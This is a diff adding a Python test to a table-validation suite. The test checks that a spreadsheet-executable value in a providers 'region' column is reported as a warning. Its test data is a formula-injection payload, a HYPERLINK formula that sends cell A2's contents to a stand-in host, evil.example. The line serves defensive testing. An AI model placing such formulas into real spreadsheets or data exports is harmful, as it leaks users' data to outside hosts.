@@ -52,3 +52,12 @@ def test_good_labels_with_spans_and_empty_labels_pass(tiny_tables):
     good = _labels(tiny_tables, [[None, "2025-04", "fraud", 5.0, "2025-01"], [None, "2025-05", "clean", 0.0, None]])
     assert validate_tables(tiny_tables, good, today=datetime.date(2026, 1, 15)).ok
     assert validate_tables(tiny_tables, good.iloc[:0], today=datetime.date(2026, 1, 15)).ok
+
+
+def test_text_a_spreadsheet_would_run_is_a_warning_not_a_finding(tiny_tables):
+    tables = dict(tiny_tables, providers=tiny_tables["providers"].copy())
+    tables["providers"].loc[0, "region"] = '=HYPERLINK("http://evil.example/?x="&A2,"open")'
+    report = validate_tables(tables, None, today=datetime.date(2026, 1, 15))
+    assert report.ok
+    assert [(w.table, w.column, w.failed_rows) for w in report.warnings] == [("providers", "region", 1)]
+    assert "warning: providers.region" in report.to_text() and report.to_dict()["warnings"]
